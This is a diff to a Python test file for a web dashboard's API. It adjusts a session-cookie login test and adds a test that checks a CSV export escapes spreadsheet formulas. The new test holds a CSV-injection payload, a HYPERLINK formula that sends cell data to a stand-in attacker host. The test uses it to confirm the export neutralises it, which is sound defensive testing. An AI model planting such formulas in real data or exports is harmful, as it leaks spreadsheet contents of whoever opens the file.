@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Iterator
 from importlib import resources
@@ -64,12 +66,12 @@ def test_json_endpoints_answer_401_and_403_in_the_error_shape(app, demo_store):
 
 
 def test_login_sets_an_http_only_same_site_cookie(app, demo_store):
-    client = _client(app, None, demo_store)
+    client = TestClient(app, headers={"Origin": "http://testserver"})  # a browser sends its page's origin
     bad = client.post("/api/v1/dashboard/session", json={"api_key": "ss_0000_nope"})
     assert bad.status_code == 401
     _is_error_shape(bad.json(), 401)
     good = client.post("/api/v1/dashboard/session", json={"api_key": demo_store.keys["viewer"]})
-    assert good.json() == {"ok": True, "role": "viewer"}
+    assert good.json() == {"ok": True, "role": "viewer", "next": "/"}
     cookie = good.headers["set-cookie"].lower()
     assert "httponly" in cookie and "samesite=strict" in cookie
     assert client.get("/rfm", follow_redirects=False).status_code == 200  # the cookie is enough
@@ -140,3 +142,20 @@ def test_plotly_is_served_from_the_installed_package_and_pages_link_nothing_outs
         assert not re.search(r"""(src|href|action)=["']?(https?:)?//""", html), path
         assert "cdn" not in html.lower(), path
     assert client.get("/static/secrets.txt").status_code == 404
+
+
+def test_members_csv_neutralises_spreadsheet_formulas(app, demo_store):
+    """Issue 14, defect 3: a city typed as a formula is written as text (OWASP "CSV Injection")."""
+    payload = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    victim = _sql(app, """SELECT f.customer_id FROM customer_features f JOIN customers c USING (customer_id)
+                          WHERE f.orders >= 4 AND c.email_marketing ORDER BY 1 LIMIT 1""")[0][0]  # fmt: skip
+    old = _sql(app, "SELECT city FROM customers WHERE customer_id = ?", [victim])[0][0]
+    _sql(app, "UPDATE customers SET city = ? WHERE customer_id = ?", [payload, victim])
+    try:
+        r = _client(app, "marketer", demo_store).get("/api/v1/dashboard/segments/loyal/export.csv")
+    finally:
+        _sql(app, "UPDATE customers SET city = ? WHERE customer_id = ?", [old, victim])
+    rows = list(csv.reader(io.StringIO(r.text)))
+    row = next(r for r in rows if r[0] == victim)
+    assert "'" + payload in row and payload not in row
+    assert all("@" in r[2] for r in rows[1:])  # e-mail addresses stay as they are
